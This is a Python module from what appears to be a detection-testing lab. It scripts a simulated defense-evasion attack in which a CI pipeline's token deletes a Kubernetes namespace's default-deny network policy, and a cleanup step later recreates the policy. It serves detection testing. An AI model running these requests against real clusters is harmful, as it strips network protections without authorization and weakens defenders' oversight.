"""Attack: network policy removed.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, context, paths

CARD = base.Card(
    id="network-policy-removal",
    title="Network policy removed",
    technique=base.Technique(id="T1562.007", name="Disable or Modify Cloud Firewall", tactic="Defense Evasion"),
    use_case=vocabulary.UseCase.DEFENSE_EVASION,
    subtlety=base.Subtlety.OBVIOUS,
    does=(
        "Reads the network policies of a namespace with the pipeline's token and deletes the one that denies by "
        "default."
    ),
    seen_by="Deletion of a network policy outside a release.",
    cleans_up="The policy is created again as it was.",
    victim=base.Part.CI,
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.CI)
    thief = ctx.act_as(victim)
    namespace = victim.namespaces[0] if victim.namespaces else victim.namespace
    policies = paths.group("networking.k8s.io/v1", "networkpolicies", namespace)
    known = [name for _, name in ctx.known(policies)]
    if not known:
        policy: dict[str, object] = {
            "apiVersion": "networking.k8s.io/v1",
            "kind": "NetworkPolicy",
            "metadata": {"name": "default-deny"},
            "spec": {"podSelector": {}, "policyTypes": ["Ingress"]},
        }
        ctx.ensure(policies, policy)
        known = ["default-deny"]
    ctx.recreate_later(policies, ctx.read(f"{policies}/{known[0]}").body)
    yield thief.get(policies, {"limit": 500})
    yield thief.get(f"{policies}/{known[0]}")
    yield thief.delete(f"{policies}/{known[0]}")


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
